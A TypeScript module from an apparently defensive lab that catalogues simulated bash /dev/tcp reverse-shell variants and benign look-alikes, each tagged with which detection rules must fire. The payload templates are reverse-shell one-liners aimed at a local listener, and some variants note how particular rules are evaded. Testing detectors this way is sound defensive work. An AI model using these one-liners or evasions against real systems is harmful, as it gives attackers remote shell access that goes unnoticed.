/**
 * The catalogue of simulated reverse shells and their benign look-alikes.
 *
 * This file holds the bash /dev/tcp class, swept across launcher shells and spellings for the seed
 * rule; the other classes (netcat, socat, interpreter one-liners, gawk and zsh, named pipes), each
 * in three launch forms, come from reverse-shell-classes.ts and follow these in the catalogue.
 *
 * Here every payload is `bash -i` wired to a TCP connection to 127.0.0.1:<port>, where <port> is a
 * listener the simulation opened itself; the listener answers `exit` and hangs up, so the shell
 * ends at once and nothing leaves the host. Each payload ends in a `#<marker>` shell comment, so
 * an alert can be tied to the variant from the command line it reports.
 *
 * The launcher shell runs the command followed by `; exit 0`: a shell given a single command
 * execs it in place, and then setsid's parent would be the lab instead of the shell, which is not
 * what happens when a person types the command at a prompt.
 *
 * Expectations are those of the rules bundled with execwarden, per rule:
 * - the seed rule "Potential Reverse Shell via Background Process" wants setsid or nohup, started
 *   by a shell, with `/dev/tcp/` and `0>&1` in its arguments: every reverse-shell variant must
 *   raise it, and every look-alike must not;
 * - "Shell Redirecting to a /dev/tcp or /dev/udp Socket" flags any shell whose arguments redirect
 *   to /dev/tcp, so it also fires on the reverse shells (allowed, not required) and catches the
 *   look-alikes that are reverse shells all the same (python/node parent, renamed setsid): there it
 *   is required, which shows the defence in depth;
 * - the benign variants touch no /dev/tcp at all and must raise nothing.
 */
import { classVariants, type LaunchForm, type ShellClass } from './reverse-shell-classes.js';
import { DEV_TCP_RULE_ID, SEED_RULE_ID } from './rule-ids.js';
import { findExecutable, interpreterRuns } from './system-tools.js';
import { realpathSync } from 'node:fs';
import { basename } from 'node:path';

export {
  BUILTIN_TCP_RULE_ID,
  DEV_TCP_RULE_ID,
  FIFO_SHELL_LOOP_RULE_ID,
  INTERPRETER_SOCKET_RULE_ID,
  MKFIFO_NETWORK_RULE_ID,
  NETCAT_EXEC_RULE_ID,
  SEED_RULE_ID,
  SOCKET_PARENT_RULE_ID,
  SOCKET_STDIO_RULE_ID,
} from './rule-ids.js';

/** What a variant gets to build its command line. */
export interface LaunchTarget {
  port: number;
  marker: string;
  /** Resolves a helper to an absolute path; the variant lists its helpers in `requires`. */
  tool(name: string): string;
  /** A scratch directory for this run (renamed copies of binaries and named pipes live here). */
  scratchDir: string;
}

export interface Launch {
  file: string;
  args: string[];
  /** Files to copy into the scratch dir before launching: [source tool name, new file name]. */
  copies?: Array<[string, string]>;
}

/** A library an interpreter must load, checked by running the interpreter on `probe`. */
export interface LibraryRequirement {
  /** Shown when it is missing: the Debian package that provides it. */
  name: string;
  interpreter: string;
  probe: string[];
}

export interface LabVariant {
  name: string;
  summary: string;
  /** The reverse-shell class it belongs to, or imitates for a look-alike. */
  shellClass: ShellClass;
  /** How it is launched (see reverse-shell-classes.ts); absent for the launcher-shell sweep below. */
  form?: LaunchForm;
  /** Whether the bundled rules should raise an alert (mustFire is not empty). */
  expectAlert: boolean;
  /** The rule whose alert the latency is measured on: mustFire[0], or null. */
  expectedRuleId: string | null;
  /** Rules (rule.id) that must raise an alert tied to this variant. */
  mustFire: string[];
  /** Rules that must not; 'any' for benign variants, which must raise nothing at all. */
  mustNotFire: string[] | 'any';
  /** Whether the payload opens a connection to the listener. */
  connects: boolean;
  /** Executables that must be installed (found on the system PATH); otherwise it is skipped. */
  requires: string[];
  /** Libraries its interpreter must load; otherwise it is skipped. */
  libraries?: LibraryRequirement[];
  launch(target: LaunchTarget): Launch;
}

/** The payload forms: how a bash one-liner ties its standard streams to /dev/tcp. */
const PAYLOADS = {
  'dup-both': (port: number) => `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`,
  'stdout-redirect': (port: number) => `bash -i > /dev/tcp/127.0.0.1/${port} 0>&1 2>&1`,
  'read-write': (port: number) => `bash -i 1<> /dev/tcp/127.0.0.1/${port} 0>&1 2>&1`,
  'exec-fd': (port: number) => `exec 5<>/dev/tcp/127.0.0.1/${port}; bash -i >&5 0>&1 2>&1`,
} as const;
type PayloadForm = keyof typeof PAYLOADS;

function payload(form: PayloadForm, target: LaunchTarget): string {
  return `${PAYLOADS[form](target.port)} #${target.marker}`;
}

/** A launcher shell running `command; exit 0`, as if typed at that shell's prompt. */
function fromShell(shell: string, command: (t: LaunchTarget) => string): (t: LaunchTarget) => Launch {
  return (t) => ({ file: t.tool(shell), args: ['-c', `${command(t)}; exit 0`] });
}

const LAUNCHER_SHELLS = ['bash', 'sh', 'dash', 'zsh', 'ksh', 'mksh', 'fish', 'tcsh', 'csh'] as const;


function reverseShell(name: string, summary: string, requires: string[], launch: (t: LaunchTarget) => Launch, form?: LaunchForm): LabVariant {
  return {
    name, summary, shellClass: 'dev-tcp', ...(form ? { form } : {}),
    expectAlert: true, expectedRuleId: SEED_RULE_ID, mustFire: [SEED_RULE_ID], mustNotFire: [], connects: true, requires, launch,
  };
}

const CSH_FAMILY: ReadonlySet<string> = new Set(['csh', 'tcsh']);

/** The parent names the seed rule accepts (its process.parent.name list, as Elastic wrote it). */
const SEED_RULE_SHELLS: ReadonlySet<string> = new Set(['bash', 'dash', 'sh', 'tcsh', 'csh', 'zsh', 'ksh', 'fish']);

/**
 * The name a shell's processes carry here: the basename of the executable its command resolves
 * to (Debian's ksh is ksh93 and its csh bsd-csh, through alternatives), as process.name reads
 * /proc/<pid>/exe. Null when the shell is not installed.
 */
function processNameOf(shell: string): string | null {
  const found = findExecutable(shell);
  if (found === null) return null;
  try {
    return basename(realpathSync(found));
  } catch {
    return null;
  }
}

/**
 * A setsid or nohup reverse shell launched from `shell`. The seed rule, like Elastic's, names its
 * parent shells: from a shell whose process name is not on that list (ksh93, mksh, bsd-csh) it
 * stays silent, as it would on Defend's events, and the /dev/tcp rule is what must catch it.
 */
function launcherShellVariant(shell: string, detacher: 'setsid' | 'nohup'): LabVariant {
  const variant = reverseShell(
    `${shell}-${detacher}`,
    `${shell} runs ${detacher} bash -c '<reverse shell>'`,
    [shell, detacher, 'bash'],
    fromShell(shell, (t) => `${detacher} bash -c '${payload('dup-both', t)}'`),
    // The class's setsid form; its bare and nohup forms are in reverse-shell-classes.ts.
    shell === 'bash' && detacher === 'setsid' ? 'setsid' : undefined,
  );
  const name = processNameOf(shell);
  // csh and tcsh have nohup built in: no nohup process is started, and the seed rule has none to see.
  const builtinNohup = detacher === 'nohup' && CSH_FAMILY.has(shell);
  if (name === null || (SEED_RULE_SHELLS.has(name) && !builtinNohup)) return variant;
  return {
    ...variant,
    summary: builtinNohup
      ? `${variant.summary}; ${shell}'s nohup is a builtin, so no nohup process runs`
      : `${variant.summary}; ${shell} runs as ${name}, not a parent the seed rule names`,
    expectedRuleId: DEV_TCP_RULE_ID,
    mustFire: [DEV_TCP_RULE_ID],
    mustNotFire: [SEED_RULE_ID],
  };
}

/** A variant the seed rule must not flag; `caughtBy` lists the rules that still must. */
function lookAlike(name: string, summary: string, caughtBy: string[], connects: boolean, requires: string[], launch: (t: LaunchTarget) => Launch): LabVariant {
  return {
    name, summary, shellClass: 'dev-tcp',
    expectAlert: caughtBy.length > 0, expectedRuleId: caughtBy[0] ?? null, mustFire: caughtBy, mustNotFire: [SEED_RULE_ID], connects, requires, launch,
  };
}

function benign(name: string, summary: string, requires: string[], launch: (t: LaunchTarget) => Launch): LabVariant {
  return { name, summary, shellClass: 'dev-tcp', expectAlert: false, expectedRuleId: null, mustFire: [], mustNotFire: 'any', connects: false, requires, launch };
}

function buildCatalogue(): LabVariant[] {
  const variants: LabVariant[] = [];
  for (const shell of LAUNCHER_SHELLS) {
    for (const detacher of ['setsid', 'nohup'] as const) variants.push(launcherShellVariant(shell, detacher));
  }
  variants.push(
    reverseShell('bash-setsid-fork', "setsid -f (always forks) from bash", ['bash', 'setsid'],
      fromShell('bash', (t) => `setsid -f bash -c '${payload('dup-both', t)}'`)),
    reverseShell('bash-setsid-absolute', 'setsid called by absolute path', ['bash', 'setsid'],
      fromShell('bash', (t) => `${t.tool('setsid')} bash -c '${payload('dup-both', t)}'`)),
    reverseShell('bash-nohup-absolute', 'nohup called by absolute path', ['bash', 'nohup'],
      fromShell('bash', (t) => `${t.tool('nohup')} bash -c '${payload('dup-both', t)}'`)),
    reverseShell('bash-setsid-stdout-redirect', "'> /dev/tcp/… 0>&1 2>&1' spelling", ['bash', 'setsid'],
      fromShell('bash', (t) => `setsid bash -c '${payload('stdout-redirect', t)}'`)),
    reverseShell('bash-setsid-read-write', "'1<> /dev/tcp/… 0>&1' spelling", ['bash', 'setsid'],
      fromShell('bash', (t) => `setsid bash -c '${payload('read-write', t)}'`)),
    reverseShell('bash-nohup-exec-fd', "'exec 5<>/dev/tcp/…; bash -i >&5 0>&1' spelling", ['bash', 'nohup'],
      fromShell('bash', (t) => `nohup bash -c '${payload('exec-fd', t)}'`)),

    benign('benign-no-dev-tcp', "setsid bash -c 'echo … 0>&1': a redirect, no /dev/tcp", ['bash', 'setsid'],
      fromShell('bash', (t) => `setsid bash -c 'echo lab 0>&1 >/dev/null #${t.marker}'`)),
    benign('benign-nohup-plain', 'nohup running a harmless command from bash', ['bash', 'nohup'],
      fromShell('bash', (t) => `nohup bash -c 'true #${t.marker}'`)),
    benign('benign-setsid-fork-plain', 'setsid -f running a harmless command from sh', ['sh', 'setsid'],
      fromShell('sh', (t) => `setsid -f sh -c 'true #${t.marker}'`)),

    lookAlike('look-alike-no-stdin-dup', "setsid bash -c 'echo … >/dev/tcp/…': a TCP write, no 0>&1", [DEV_TCP_RULE_ID], true, ['bash', 'setsid'],
      fromShell('bash', (t) => `setsid bash -c 'echo lab >/dev/tcp/127.0.0.1/${t.port} #${t.marker}'`)),
    lookAlike('look-alike-python-parent', 'the reverse shell started by python3, not by a shell', [DEV_TCP_RULE_ID], true, ['python3', 'setsid', 'bash'],
      (t) => ({
        file: t.tool('python3'),
        args: ['-c', `import subprocess, sys; sys.exit(subprocess.call(["setsid", "bash", "-c", ${JSON.stringify(payload('dup-both', t))}]))`],
      })),
    lookAlike('look-alike-node-parent', 'the reverse shell started by node, not by a shell', [DEV_TCP_RULE_ID], true, ['setsid', 'bash'],
      (t) => ({ file: process.execPath, args: ['-e', nodeLauncher(payload('dup-both', t))] })),
    lookAlike('look-alike-renamed-setsid', 'a copy of setsid named lab-detach, from bash', [DEV_TCP_RULE_ID], true, ['bash', 'setsid'],
      (t) => ({
        copies: [['setsid', 'lab-detach']],
        file: t.tool('bash'),
        args: ['-c', `${t.scratchDir}/lab-detach bash -c '${payload('dup-both', t)}'; exit 0`],
      })),
    ...classVariants(),
  );
  return variants;
}

function nodeLauncher(command: string): string {
  return [
    "const { spawnSync } = require('node:child_process');",
    `const r = spawnSync('setsid', ['bash', '-c', ${JSON.stringify(command)}], { stdio: 'ignore' });`,
    'process.exit(r.status ?? 1);',
  ].join(' ');
}

export const LAB_VARIANTS: readonly LabVariant[] = Object.freeze(buildCatalogue());

/** The tools and libraries of `variant` that are not installed; empty when it can run here. */
export function missingTools(
  variant: LabVariant,
  find: (name: string) => string | null = findExecutable,
  loads: (library: LibraryRequirement) => boolean = (library) => interpreterRuns(library.interpreter, library.probe),
): string[] {
  const tools = variant.requires.filter((name) => find(name) === null);
  // A library is only checked once its interpreter is there; a missing interpreter is named already.
  const libraries = (variant.libraries ?? []).filter((library) => find(library.interpreter) !== null && !loads(library));
  return [...tools, ...libraries.map((library) => library.name)];
}
